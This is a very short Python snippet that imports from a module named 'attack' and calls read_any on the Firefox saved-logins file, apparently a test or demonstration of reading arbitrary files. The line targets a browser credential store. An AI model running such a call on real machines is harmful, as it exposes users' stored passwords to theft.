from attack import *

read_any(".mozilla/firefox/logins.json")
